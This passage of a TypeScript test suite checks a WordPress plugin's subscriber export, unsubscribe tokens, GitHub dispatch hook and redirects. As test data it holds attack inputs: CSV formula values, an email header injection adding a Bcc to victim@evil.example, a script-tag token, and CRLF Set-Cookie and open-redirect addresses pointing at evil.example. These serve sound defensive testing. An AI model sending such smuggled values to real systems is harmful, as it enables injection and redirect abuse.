    const confirmed = (await subscribers()).filter((s) => s.meta.status === "confirmed").map((s) => s.meta.email);
    expect(rows.map((r) => r[0]).sort()).toEqual(confirmed.map((e) => (/^[=+\-@]/.test(String(e)) ? `'${e}` : e)).sort());
    expect(rows.map((r) => r[0])).toContain("confirmed.one@example.com");
    expect(rows.map((r) => r[0])).toContain("'-2+3@example.com");
    for (const gone of ["still.pending@example.com", "gone.away@example.com"]) expect(csv).not.toContain(gone);
    for (const r of rows) {
      expect(r[1], "signed up").toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(r[2], "confirmed").toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(r[2]! >= r[1]!, "confirmed after signing up").toBe(true);
      for (const cell of r) expect(cell, "no cell a spreadsheet would run").not.toMatch(/^[=+\-@\t\r]/);
    }

    // Without the capability (an editor, even with a valid nonce), with a bad nonce, or with none: no file.
    const editor = await phpText("export-subscribers", "editor", "good");
    expect(editor).toContain("Sorry, you are not allowed to export subscribers.");
    for (const out of [await phpText("export-subscribers", "administrator", "bad"), await phpText("export-subscribers", "administrator", "none")]) expect(out).toContain("The link you followed has expired.");
    expect(editor).not.toContain("confirmed.one@example.com");
  });

  it("unsubscribes with the link of the mail (one-click POST, RFC 8058)", async () => {
    const mailsBefore = mails().length;
    await postJson(ns("subscribers"), { email: "leaving@example.com" }, { origin: SITE });
    const [mail] = mails().slice(mailsBefore);
    const unsubscribe = linkIn(mail!, "unsubscribe");
    expect((await request(unsubscribe)).text).toContain("<button type=\"submit\">Unsubscribe</button>");
    expect(await statusOf("leaving@example.com")).toBe("pending");
    const res = await request(unsubscribe, { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "List-Unsubscribe=One-Click" });
    expect(res.status).toBe(200);
    expect(res.text).toContain("You are unsubscribed");
    expect(await statusOf("leaving@example.com")).toBe("unsubscribed");
    // A confirmation link followed later does not subscribe again.
    await request(linkIn(mail!, "confirm"), { method: "POST" });
    expect(await statusOf("leaving@example.com")).toBe("unsubscribed");
  });

  it("rejects forged, altered, swapped and missing tokens and changes nothing", async () => {
    const mailsBefore = mails().length;
    await postJson(ns("subscribers"), { email: "target@example.com" }, { origin: SITE });
    await postJson(ns("subscribers"), { email: "other@example.com" }, { origin: SITE });
    const [target, other] = mails().slice(mailsBefore);
    const confirm = new URL(linkIn(target!, "confirm"));
    const token = confirm.searchParams.get("token")!;
    const [id, expires, sig] = token.split(".") as [string, string, string];
    const otherToken = new URL(linkIn(other!, "confirm")).searchParams.get("token")!;
    const unsubToken = new URL(linkIn(target!, "unsubscribe")).searchParams.get("token")!;
    const flip = (s: string) => s.slice(0, -1) + (s.endsWith("0") ? "1" : "0");
    const forged: [string, string, string | null][] = [
      ["a changed signature", "confirm", `${id}.${expires}.${flip(sig)}`],
      ["another subscriber's id", "confirm", `${otherToken.split(".")[0]}.${expires}.${sig}`],
      ["a later expiry", "confirm", `${id}.${Number(expires) + 86400}.${sig}`],
      ["a signature made up of zeros", "confirm", `${id}.${expires}.${"0".repeat(64)}`],
      ["the unsubscribe token on the confirm link", "confirm", unsubToken],
      ["the confirm token on the unsubscribe link", "unsubscribe", token],
      ["a truncated token", "confirm", token.slice(0, -10)],
      ["no token", "confirm", null],
      ["markup in the token", "confirm", `<script>alert(1)</script>`],
    ];
    for (const [what, action, t] of forged) {
      const url = ns(`subscribers/${action}`) + (t === null ? "" : `?token=${encodeURIComponent(t)}`);
      for (const method of ["GET", "POST"]) {
        const res = await request(url, { method });
        expect(res.status, `${what} (${method})`).toBe(400);
        expect(res.text, what).toContain("This link is not valid");
        expect(res.text, what).not.toContain("<script>alert(1)");
      }
    }
    expect(await statusOf("target@example.com")).toBe("pending");
    expect(await statusOf("other@example.com")).toBe("pending");
    // The real token still works.
    expect((await request(confirm.href, { method: "POST" })).status).toBe(200);
    expect(await statusOf("target@example.com")).toBe("confirmed");
  });

  it("answers a bad address with the form's message, and a filled honeypot like a sign-up without storing or sending", async () => {
    const before = (await subscribers()).length;
    const mailsBefore = mails().length;
    for (const email of ["not-an-address", "", 7, "a@b.c\r\nBcc: victim@evil.example"]) {
      const res = await postJson(ns("subscribers"), { email }, { origin: SITE });
      expect(res.status, String(email)).toBe(400);
      expect(res.json).toEqual({ code: "studio_invalid_subscriber", message: "Some fields are not valid.", data: { status: 400, fields: { email: "Please enter a valid email address." } } });
    }
    const bot = await postJson(ns("subscribers"), { email: "bot@example.com", website: "http://spam.example" }, { origin: SITE });
    expect(bot.status).toBe(202);
    expect(bot.json).toEqual({ status: "pending" });
    expect(await subscribers()).toHaveLength(before);
    expect(mails()).toHaveLength(mailsBefore);
  });
});

// ── Publish hook ─────────────────────────────────────────────────────────────
describe("publish hook: one workflow dispatch per change", () => {
  beforeEach(() => {
    dispatches.length = 0;
    answers.length = 0;
  });
  const expectOne = (changes: { type: string; change: string; id?: number }[]) => {
    expect(dispatches).toHaveLength(1);
    const d = dispatches[0]!;
    expect(d.method).toBe("POST");
    // GitHub's "create a workflow dispatch event": a token with Actions: write may make it, and
    // none that can write the repository's files is needed (decision 206).
    expect(d.url).toBe(`/repos/${REPO}/actions/workflows/refresh-snapshot.yml/dispatches`);
    expect(d.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(d.headers.accept).toBe("application/vnd.github+json");
    expect(d.headers["x-github-api-version"]).toBe("2022-11-28");
    expect(d.body.ref).toBe("main");
    expect(Object.keys(d.body).sort()).toEqual(["inputs", "ref"]);
    expect(Object.keys(d.body.inputs ?? {}).sort()).toEqual(["changes", "source"]);
    expect(d.body.inputs?.source).toBe(`${stack().url}/`);
    expect(changesIn(d)).toEqual(changes.map((c) => expect.objectContaining(c)));
  };
  let postId = 0;

  it("publishing a post sends exactly one dispatch with the token and the change", async () => {
    const res = await asAdmin("POST", "posts", { title: "Dispatch test", content: "<p>Published.</p>", status: "publish" });
    expect(res.status, res.text).toBe(201);
    postId = (res.json as { id: number }).id;
    expect(dispatches, "nothing before the debounced event runs").toHaveLength(0);
    expect(await runDispatch()).toEqual({ ran: 1 });
    expectOne([{ type: "post", id: postId, change: "published" }]);
    expect(await runDispatch()).toEqual({ ran: 0 });
    expect(dispatches).toHaveLength(1);
  });

  it("updating sends one, however many saves make the update (the editor saves twice)", async () => {
    for (const content of ["<p>Edited once.</p>", "<p>Edited twice.</p>", "<p>And the meta boxes.</p>"]) {
      expect((await asAdmin("POST", `posts/${postId}`, { content })).status).toBe(200);
    }
    expect(await runDispatch()).toEqual({ ran: 1 });
    expectOne([{ type: "post", id: postId, change: "updated" }]);
  });

  it("an autosave, a revision or a draft sends none", async () => {
    const autosave = await asAdmin("POST", `posts/${postId}/autosaves`, { title: "Dispatch test", content: "<p>Unsaved thoughts.</p>" });
    expect(autosave.status, autosave.text).toBe(200);
    const draft = await asAdmin("POST", "posts", { title: "Just a draft", content: "<p>Draft.</p>", status: "draft" });
    expect(draft.status).toBe(201);
    const draftId = (draft.json as { id: number }).id;
    expect((await asAdmin("POST", `posts/${draftId}`, { content: "<p>Draft, edited.</p>" })).status).toBe(200);
    expect((await asAdmin("POST", `posts/${draftId}/autosaves`, { content: "<p>Draft, autosaved.</p>" })).status).toBe(200);
    const revisions = await asAdmin("GET", `posts/${postId}/revisions`);
    expect((revisions.json as unknown[]).length, "the updates made revisions").toBeGreaterThan(1);
    expect(await runDispatch()).toEqual({ ran: 0 });
    expect(dispatches).toHaveLength(0);
  });

  it("trashing sends one", async () => {
    expect((await asAdmin("DELETE", `posts/${postId}`)).status).toBe(200);
    expect(await runDispatch()).toEqual({ ran: 1 });
    expectOne([{ type: "post", id: postId, change: "trashed" }]);
  });

  it("a portfolio item and an FAQ published together send one dispatch naming both", async () => {
    const item = await asAdmin("POST", "portfolio", { title: "Dispatch loft", content: "<p>Loft.</p>", status: "publish" });
    const faq = await asAdmin("POST", "faq", { title: "Do you dispatch?", content: "<p>Once.</p>", status: "publish" });
    expect([item.status, faq.status]).toEqual([201, 201]);
    expect(await runDispatch()).toEqual({ ran: 1 });
    expectOne([
      { type: "portfolio", id: (item.json as { id: number }).id, change: "published" },
      { type: "faq", id: (faq.json as { id: number }).id, change: "published" },
    ]);
  });

  // The test hook holds each read of the list of changes (studio_test_slow_pending), so that the
  // requests overlap between reading the list and writing or deleting it, every run.
  const slowPending = (ms: number) => php("set-options", JSON.stringify({ studio_test_slow_pending: ms }));
  const dispatched = () => dispatches.flatMap(changesIn);

  it("three posts published at once are all named in the one dispatch", async () => {
    await slowPending(800);
    try {
      const titles = ["Parallel one", "Parallel two", "Parallel three"];
      const published = await Promise.all(titles.map((title) => asAdmin("POST", "posts", { title, content: "<p>At once.</p>", status: "publish" })));
      expect(published.map((r) => r.status)).toEqual([201, 201, 201]);
      expect(await runDispatch()).toEqual({ ran: 1 });
      expect(dispatches).toHaveLength(1);
      const ids = published.map((r) => (r.json as { id: number }).id);
      expect(dispatched().map((c) => c.id).sort((a, b) => a - b)).toEqual([...ids].sort((a, b) => a - b));
      expect(dispatched().every((c) => c.type === "post" && c.change === "published")).toBe(true);
    } finally {
      await slowPending(0);
    }
  });

  it("a post published while the event sends the list is named in a dispatch, not deleted with the list unsent", async () => {
    const first = await asAdmin("POST", "faq", { title: "Before the event", content: "<p>First.</p>", status: "publish" });
    expect(first.status).toBe(201);
    await slowPending(1500);
    try {
      // The publish reads the list first; the event starts while it holds its change.
      const during = asAdmin("POST", "faq", { title: "During the event", content: "<p>Second.</p>", status: "publish" });
      await new Promise((resolve) => setTimeout(resolve, 500));
      const [ran, second] = await Promise.all([runDispatch(), during]);
      expect(ran).toEqual({ ran: 1 });
      expect(second.status).toBe(201);
      await slowPending(0);
      await runDispatch();
      const ids = dispatched().map((c) => c.id);
      expect(ids).toContain((first.json as { id: number }).id);
      expect(ids).toContain((second.json as { id: number }).id);
    } finally {
      await slowPending(0);
    }
  });

  it("a post whose save began before the event took the list gets an event of its own", async () => {
    const first = await asAdmin("POST", "faq", { title: "Waiting for its event", content: "<p>First.</p>", status: "publish" });
    expect(first.status).toBe(201);
    await php("set-options", JSON.stringify({ studio_test_slow_faq: 1500 }));
    try {
      // The second save loads WordPress (the event still in its cron schedule), then is held
      // before the hook; meanwhile the event runs and takes the list.
      const during = asAdmin("POST", "faq", { title: "Saved across the event", content: "<p>Second.</p>", status: "publish" });
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(await runDispatch()).toEqual({ ran: 1 });
      const second = await during;
      expect(second.status).toBe(201);
      expect(dispatched().map((c) => c.id)).toEqual([(first.json as { id: number }).id]);
      expect(await runDispatch(), "the second save scheduled an event").toEqual({ ran: 1 });
      expect(dispatched().map((c) => c.id)).toEqual([(first.json as { id: number }).id, (second.json as { id: number }).id]);
    } finally {
      await php("set-options", JSON.stringify({ studio_test_slow_faq: 0 }));
    }
  });

  it("never shows the token: not on the settings page, not in REST, not in a failure's log line", async () => {
    const page = await phpText("settings-page");
    expect(page).toContain("studio_companion_github_token");
    expect(page).toMatch(/<p><strong>set<\/strong><\/p>/);
    expect(page).toMatch(/<input type="password" id="studio_companion_github_token" name="studio_companion_github_token" value=""/);
    expect(page).toContain(`value="${SITE}"`);
    expect(page).not.toContain(TOKEN);
    expect(page).not.toContain(TOKEN.slice(11, 30));

    const settings = await asAdmin("GET", "settings");
    expect(settings.status).toBe(200);
    expect(Object.keys(settings.json as object).filter((k) => k.startsWith("studio_companion"))).toEqual([]);

    // GitHub refuses (a revoked token): the log says so without the token.
    nextStatus = 401;
    expect((await asAdmin("POST", "faq", { title: "Refused dispatch", content: "<p>401.</p>", status: "publish" })).status).toBe(201);
    expect(await runDispatch()).toEqual({ ran: 1 });
    expect(dispatches).toHaveLength(1);
    const logs = path.join(stack().dir, "logs");
    const cliLog = fs.readFileSync(path.join(logs, "php-cli.log"), "utf8");
    expect(cliLog).toContain(`studio-companion: the refresh request to GitHub (${REPO}) failed: HTTP 401 Bad credentials`);
    for (const f of fs.readdirSync(logs)) expect(fs.readFileSync(path.join(logs, f), "utf8"), f).not.toContain(TOKEN);
    for (const body of seen) expect(body).not.toContain(TOKEN);
  });
});

describe("publish hook: a refresh request GitHub does not take (decision 169)", () => {
  beforeEach(() => {
    dispatches.length = 0;
    answers.length = 0;
  });
  const changesOf = (d: Dispatch | undefined) => changesIn(d).map(({ type, id, change }) => ({ type, id, change }));
  const cliLog = () => fs.readFileSync(path.join(stack().dir, "logs", "php-cli.log"), "utf8");
  const pending = async () => Object.values((await php<{ value: Record<string, { id: number }> | false }>("get-option", "studio_companion_dispatch_pending")).value || {}).map((c) => c.id);
  const publish = async (type: "posts" | "faq", title: string) => {
    const res = await asAdmin("POST", type, { title, content: `<p>${title}.</p>`, status: "publish" });
    expect(res.status, res.text).toBe(201);
    return (res.json as { id: number }).id;
  };
  /** The status paragraph of Settings → Studio Companion, as text. */
  const status = async () => /<p role="status">([^<]*)<\/p>/.exec(await phpText("settings-page"))?.[1]?.replace(/&#0?39;/g, "'").replace(/&quot;/g, '"');

  it("a refused request (401) has no timer: its change waits, and goes when a new token is saved", async () => {
    nextStatus = 401;
    const id = await publish("faq", "Refused, then sent");
    expect(await runDispatch()).toEqual({ ran: 1 });
    expect(dispatches).toHaveLength(1);
    expect(await scheduledDispatches()).toEqual([]);
    expect(await pending()).toContain(id);
    expect(await status()).toMatch(/^The last refresh request was refused .+: HTTP 401 Bad credentials\. Check the repository and the token below\. (1 change waits: it is|\d+ changes wait: they are) sent with the next change, or when you save this page\.$/);

    const other = `ghp_${"n".repeat(36)}`;
    try {
      // Saved as the settings page saves it: the repository (unchanged) with the new token.
      await php("set-options", JSON.stringify({ studio_companion_github_repo: REPO, studio_companion_github_token: other }));
      expect(await scheduledDispatches()).toHaveLength(1);
      expect(await runDispatch()).toEqual({ ran: 1 });
      expect(dispatches).toHaveLength(2);
      expect(dispatches[1]!.headers.authorization).toBe(`Bearer ${other}`);
      expect(changesOf(dispatches[1]).map((c) => c.id)).toContain(id);
      expect(await pending()).toEqual([]);
      expect(await status()).toMatch(/^Last refresh request: sent .+, naming \d+ changes?\.$/);
    } finally {
      await php("set-options", JSON.stringify({ studio_companion_github_token: TOKEN }));
    }
    await php("set-options", JSON.stringify({ studio_companion_github_repo: REPO }));
    expect(await scheduledDispatches(), "saving the settings with nothing waiting schedules nothing").toEqual([]);
  });

  it("GitHub down (503): the list is sent again a minute later, with the changes saved meanwhile, each once", async () => {
    answers.push({ status: 503 });
    const first = await publish("posts", "Sent during an outage");
    expect(await runDispatch()).toEqual({ ran: 1 });
    const [retry, ...more] = await scheduledDispatches();
    expect(more).toEqual([]);
    expect(retry!.in).toBeGreaterThan(45);
    expect(retry!.in).toBeLessThanOrEqual(60);
    expect(cliLog()).toContain(`studio-companion: the refresh request to GitHub (${REPO}) failed: HTTP 503 Service unavailable; it is sent again in 60 s (attempt 2 of 8)`);
    expect(await status()).toMatch(/^The last refresh request failed .+ \(HTTP 503 Service unavailable\)\. It is sent again .+ \(attempt 2 of 8\)\.$/);

    expect((await asAdmin("POST", `posts/${first}`, { content: "<p>Corrected while GitHub was down.</p>" })).status).toBe(200);
    const second = await publish("posts", "Published while GitHub was down");
    expect(await runDispatch(), "nothing is sent before the retry's time").toEqual({ ran: 0 });
    expect(await runAllDispatches()).toEqual({ ran: 1 });
    expect(dispatches).toHaveLength(2);
    expect(changesOf(dispatches[1])).toEqual([
      { type: "post", id: first, change: "updated" },
      { type: "post", id: second, change: "published" },
    ]);
    expect(await scheduledDispatches()).toEqual([]);
    expect(await status()).toMatch(/^Last refresh request: sent .+, naming 2 changes\.$/);
  });

  it("no answer at all is tried 8 times, 1, 2, 4 … 60 minutes apart; then the changes wait for the next one", async () => {
    answers.push(...Array.from({ length: 8 }, () => "drop" as const));
    const first = await publish("posts", "Never answered");
    const waits: number[] = [];
    expect(await runDispatch()).toEqual({ ran: 1 });
    for (let attempt = 2; attempt <= 8; attempt++) {
      const [next, ...more] = await scheduledDispatches();
      expect(more).toEqual([]);
      expect(await status()).toContain(`(attempt ${attempt} of 8)`);
      waits.push(next!.in);
      expect(await runAllDispatches()).toEqual({ ran: 1 });
    }
    expect(dispatches).toHaveLength(8);
    expect(waits.map((w, i) => [60, 120, 240, 480, 960, 1920, 3600][i]! - w).every((d) => d >= 0 && d < 15), waits.join(", ")).toBe(true);
    expect(await scheduledDispatches()).toEqual([]);
    // WordPress's own words for a connection closed unanswered ("Response could not be parsed" from its HTTP API).
    expect(cliLog()).toMatch(/failed: [^;\n]+; no answer after 8 attempts; the changes wait for the next change or a save of the settings page/);
    expect(await status()).toMatch(/^GitHub did not take the refresh request after 8 attempts \(last .+: [^)]+\)\. 1 change waits: it is sent with the next change, or when you save this page\.$/);
    expect(await pending()).toEqual([first]);

    const second = await publish("posts", "The next change");
    expect(await runDispatch()).toEqual({ ran: 1 });
    expect(changesOf(dispatches[8]).map((c) => c.id)).toEqual([first, second]);
    expect(await pending()).toEqual([]);
  });

  it("a rate limit waits for GitHub's Retry-After, a 403 of a rate limit is retried, another 403 waits for new settings", async () => {
    answers.push({ status: 429, headers: { "retry-after": "900" } }, { status: 403, headers: { "x-ratelimit-remaining": "0" } }, { status: 403 });
    const id = await publish("faq", "Rate limited");
    expect(await runDispatch()).toEqual({ ran: 1 });
    const [retry] = await scheduledDispatches();
    expect(retry!.in).toBeGreaterThan(885);
    expect(retry!.in).toBeLessThanOrEqual(900);
    expect(await status()).toMatch(/\(HTTP 429 API rate limit exceeded\)\. It is sent again .+ \(attempt 2 of 8\)\.$/);
    expect(await runAllDispatches()).toEqual({ ran: 1 });
    const [second] = await scheduledDispatches();
    expect(second!.in).toBeGreaterThan(105);
    expect(second!.in).toBeLessThanOrEqual(120);
    expect(await status()).toContain("(attempt 3 of 8)");
    expect(await runAllDispatches()).toEqual({ ran: 1 });
    expect(await scheduledDispatches()).toEqual([]);
    // A token made for the old request (Contents: write) is refused so: the page says what it needs.
    expect(await status()).toMatch(/refused .+: HTTP 403 Resource not accessible by personal access token \(the token needs the repository permission "Actions: Read and write"\)\./);
    expect(await pending()).toEqual([id]);
    await php("set-options", JSON.stringify({ studio_companion_github_repo: "maple-mortar/site-moved" }));
    try {
      expect(await runDispatch()).toEqual({ ran: 1 });
      expect(dispatches.at(-1)!.url).toBe("/repos/maple-mortar/site-moved/actions/workflows/refresh-snapshot.yml/dispatches");
      expect(changesOf(dispatches.at(-1)).map((c) => c.id)).toEqual([id]);
    } finally {
      await php("set-options", JSON.stringify({ studio_companion_github_repo: REPO }));
    }
  });

  it("a site whose default branch is not main runs the workflow of its own branch (the filter, or STUDIO_COMPANION_GITHUB_REF)", async () => {
    await php("set-options", JSON.stringify({ studio_test_github_ref: "trunk" }));
    try {
      const id = await publish("posts", "On trunk");
      expect(await runDispatch()).toEqual({ ran: 1 });
      expect(dispatches.at(-1)!.body.ref).toBe("trunk");
      expect(changesOf(dispatches.at(-1)).map((c) => c.id)).toEqual([id]);
    } finally {
      await php("set-options", JSON.stringify({ studio_test_github_ref: "" }));
    }
  });

  it("a change saved while a request is on its way and fails makes no second event: one request sends both", async () => {
    answers.push({ status: 503, afterMs: 2000 });
    const first = await publish("posts", "Sent slowly");
    const sending = runDispatch();
    await new Promise((resolve) => setTimeout(resolve, 700));
    const second = await publish("posts", "Saved while it was sent");
    expect(await sending).toEqual({ ran: 1 });
    expect(await scheduledDispatches()).toHaveLength(1);
    expect(await runAllDispatches()).toEqual({ ran: 1 });
    expect(dispatches).toHaveLength(2);
    expect(changesOf(dispatches[1]).map((c) => c.id)).toEqual([first, second]);
    expect(await scheduledDispatches()).toEqual([]);
  });

  it("a GitHub message that repeats the token shows [token] in the log and on the settings page, never the token", async () => {
    answers.push({ status: 401, message: `Bad credentials: Bearer ${TOKEN}` });
    await publish("faq", "Echoed token");
    expect(await runDispatch()).toEqual({ ran: 1 });
    const page = await phpText("settings-page");
    expect(await status()).toMatch(/refused .+: HTTP 401 Bad credentials: Bearer \[token\]\./);
    expect(page).not.toContain(TOKEN);
    expect(cliLog()).toContain("HTTP 401 Bad credentials: Bearer [token]");
    expect(cliLog()).not.toContain(TOKEN);
    expect(await runAllDispatches(), "a refusal leaves no event").toEqual({ ran: 0 });
    await php("set-options", JSON.stringify({ studio_companion_github_repo: REPO }));
    expect(await runDispatch()).toEqual({ ran: 1 });
    expect(await pending()).toEqual([]);
  });
});

// ── Preview ──────────────────────────────────────────────────────────────────
describe("preview on the site", () => {
  let draftId = 0;

  it("the Preview link of a draft post, portfolio item or FAQ opens the site's /preview with type and id", async () => {
    const draft = await asAdmin("POST", "posts", { title: "Preview me", content: "<p>Draft body.</p>", status: "draft" });
    draftId = (draft.json as { id: number }).id;
    // The block editor's Preview button saves an autosave and opens its preview_link.
    const autosave = await asAdmin("POST", `posts/${draftId}/autosaves`, { title: "Preview me", content: "<p>Draft body, changed.</p>" });
    expect(autosave.status, autosave.text).toBe(200);
    expect((autosave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=posts&id=${draftId}`);

    const item = await asAdmin("POST", "portfolio", { title: "Preview loft", status: "draft" });
    const itemId = (item.json as { id: number }).id;
    const itemSave = await asAdmin("POST", `portfolio/${itemId}/autosaves`, { title: "Preview loft", content: "<p>x</p>" });
    expect((itemSave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=portfolio&id=${itemId}`);

    // Unsaved changes of a published FAQ live in its autosave: the link says so.
    const faq = await asAdmin("POST", "faq", { title: "Published question", content: "<p>A.</p>", status: "publish" });
    const faqId = (faq.json as { id: number }).id;
    const faqSave = await asAdmin("POST", `faq/${faqId}/autosaves`, { title: "Published question", content: "<p>A, better.</p>" });
    expect((faqSave.json as { preview_link: string }).preview_link).toBe(`${SITE}/preview?type=faq&id=${faqId}&autosave=1`);
    await runDispatch(); // the FAQ's publish
  });

  it("a draft is readable with context=edit and a valid application password from the site's origin, not with a wrong one or none", async () => {
    const url = `${stack().api}/posts/${draftId}?context=edit`;
    const ok = await request(url, { auth: adminAuth, origin: SITE });
    expect(ok.status, ok.text).toBe(200);
    expect((ok.json as { status: string; title: { raw: string } }).status).toBe("draft");
    expect((ok.json as { title: { raw: string } }).title.raw).toBe("Preview me");
    expect(ok.headers.get("access-control-allow-origin")).toBe(SITE);

    // A wrong password is an anonymous request to WordPress 6.1 (its REST server authenticates
    // only after it has checked for application-password errors), so both get the same 401.
    for (const [what, auth] of [
      ["a wrong application password", `Basic ${Buffer.from("clara:abcd efgh ijkl mnop qrst uvwx").toString("base64")}`],
      ["the login password", `Basic ${Buffer.from("clara:contract-test-only").toString("base64")}`],
      ["no password", undefined],
    ] as const) {
      const res = await request(url, { auth, origin: SITE });
      expect(res.status, what).toBe(401);
      expect(res.json?.code, what).toMatch(/^(rest_forbidden_context|incorrect_password)$/);
      expect(res.text, what).not.toContain("Preview me");
    }
    const anonymous = await request(`${stack().api}/posts/${draftId}`);
    expect(anonymous.status).toBe(401);
    expect(anonymous.text).not.toContain("Draft body");

    // The browser's preflight for that GET with Authorization, from the site.
    const preflight = await request(url, { method: "OPTIONS", origin: SITE, headers: { "access-control-request-method": "GET", "access-control-request-headers": "authorization" } });
    expect(preflight.headers.get("access-control-allow-origin")).toBe(SITE);
    expect(preflight.headers.get("access-control-allow-headers")).toMatch(/\bAuthorization\b/);
    expect(preflight.headers.get("access-control-allow-methods")).toMatch(/\bGET\b/);
  });
});

// ── WordPress's own pages ────────────────────────────────────────────────────
describe("WordPress's own pages send their visitors to the site (decision 222)", () => {
  interface Item {
    id: number;
    slug: string;
    link: string;
    source_url?: string;
  }
  const front = (address: string) => request(address.startsWith("http") ? address : `${stack().url}${address}`);
  const first = async (type: string) => ((await request(`${stack().api}/${type}?per_page=1`)).json as Item[])[0]!;
  /** WordPress's home path in the stack (it is served under /blog/). */
  const home = () => new URL(stack().url).pathname.replace(/\/$/, "");
  const movedTo = async (address: string) => {
    const res = await front(address);
    expect(res.status, address).toBe(301);
    return res.headers.get("location");
  };

  it("a published post, portfolio item or FAQ answers 301 with its own page on the site, from its permalink and from ?p=", async () => {
    for (const collection of ["posts", "portfolio", "faq"] as const) {
      const item = await first(collection);
      expect(await movedTo(item.link)).toBe(`${SITE}${COLLECTIONS[collection].routePrefix}/${item.slug}`);
    }
    const post = await first("posts");
    expect(await movedTo(`/?p=${post.id}`)).toBe(`${SITE}/blog/${post.slug}`);
  });

  it("any other address keeps its path and query on the site, where the site's old-address rules take it on: the home, a category, the feed, a tag, an unknown page, a draft's ?p=", async () => {
    const category = ((await request(`${stack().api}/categories?per_page=1`)).json as Item[])[0]!;
    const draft = await asAdmin("POST", "posts", { title: "Secret plans", slug: "secret-plans", content: "<p>Not yet.</p>", status: "draft" });
    const draftId = (draft.json as { id: number }).id;
    // WordPress's home itself is the site's home, whatever its path (here /blog, the site's blog list's).
    expect(await movedTo(`${stack().url}/`)).toBe(`${SITE}/`);
    const cases: [string, string][] = [
      [category.link, new URL(category.link).pathname],
      ["/feed/", `${home()}/feed/`],
      ["/?tag=kitchens&utm_source=news", `${home()}/?tag=kitchens&utm_source=news`],
      ["/no-such-page/", `${home()}/no-such-page/`],
      [`/?p=${draftId}`, `${home()}/?p=${draftId}`],
    ];
    for (const [address, path] of cases) expect(await movedTo(address)).toBe(`${SITE}${path}`);
  });

  it("an attachment's page answers 301 with its file; the REST API and the uploads stay WordPress's", async () => {
    const media = await first("media");
    expect(await movedTo(media.link)).toBe(media.source_url);
    expect(await movedTo(`/?attachment_id=${media.id}`)).toBe(media.source_url);
    expect((await request(media.source_url!)).status).toBe(200);
    expect((await request(`${stack().api}/posts?per_page=1`)).status).toBe(200);
  });

  it("leaves an editor's preview and unpublished item to WordPress, not a visitor's or a subscriber's ?preview=true; and a POST (another plugin's form), but not to an author's archive", async () => {
    const post = await first("posts");
    const draft = await asAdmin("POST", "posts", { title: "Preview in the theme", content: "<p>Draft.</p>", status: "draft" });
    const draftId = (draft.json as { id: number }).id;
    const target = async (uri: string, role: string) => (await php<{ target: string | null }>("front-target", `${home()}${uri}`, role)).target;
    // An editor previewing changes to a published post: the preview check is what keeps it.
    expect(await target(`/?p=${post.id}&preview=true`, "administrator")).toBeNull();
    expect(await target(`/?p=${post.id}&preview=true`, "editor")).toBeNull();
    expect(await target(`/?p=${draftId}`, "administrator")).toBeNull();
    // A visitor's or a subscriber's ?preview=true is no preview: the post's page on the site.
    expect(await target(`/?p=${post.id}&preview=true`, "none")).toBe(`${SITE}/blog/${post.slug}`);
    expect(await target(`/?p=${post.id}&preview=true`, "subscriber")).toBe(`${SITE}/blog/${post.slug}`);
    expect(await movedTo(`/?p=${post.id}&preview=true`)).toBe(`${SITE}/blog/${post.slug}`);
    const form = await request(post.link, { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "comment=hello" });
    expect(form.headers.get("x-redirect-by")).not.toBe("Studio Companion");
    expect((await request(post.link, { method: "HEAD" })).headers.get("location")).toBe(`${SITE}/blog/${post.slug}`);
    expect((await request(`${stack().url}/?author=1`, { method: "POST" })).headers.get("x-redirect-by")).toBe("Studio Companion");
    expect((await request(post.link, { method: "OPTIONS" })).headers.get("location")).toBe(`${SITE}/blog/${post.slug}`);
  });


  it("a hostile address cannot move the redirect off the site: a second slash, CR LF, a redirect_to", async () => {
    const site = new URL(SITE).host;
    for (const address of [`${home()}//evil.example/x`, `${home()}/%0d%0aSet-Cookie:%20stolen=1`, "/?redirect_to=https://evil.example/"]) {
      const res = await request(`${new URL(stack().url).origin}${address.startsWith("/?") ? home() : ""}${address}`);
      expect(res.status, address).toBe(301);
      expect(new URL(res.headers.get("location")!).host, address).toBe(site);
      expect(res.headers.get("set-cookie") ?? "", address).not.toContain("stolen");
    }
  });

  it("leaves WordPress's pages to WordPress when a studio turns the redirect off, and without a site URL", async () => {
    // The feed: the one page the stack's theme answers itself (its others redirect to their own canonical form).
    const feed = async () => {
      const res = await front("/feed/");
      return { status: res.status, by: res.headers.get("x-redirect-by"), location: res.headers.get("location") };
    };
    await php("set-options", JSON.stringify({ studio_test_keep_theme: 1 }));
    try {
      expect(await feed()).toEqual({ status: 200, by: null, location: null });
    } finally {
      await php("set-options", JSON.stringify({ studio_test_keep_theme: 0 }));
    }
    await php("set-options", JSON.stringify({ studio_companion_site_url: "" }));
    try {
      expect(await feed()).toEqual({ status: 200, by: null, location: null });
    } finally {
      await php("set-options", JSON.stringify({ studio_companion_site_url: `${SITE}/` }));
    }
    expect(await feed()).toEqual({ status: 301, by: "Studio Companion", location: `${SITE}${home()}/feed/` });
  });

});
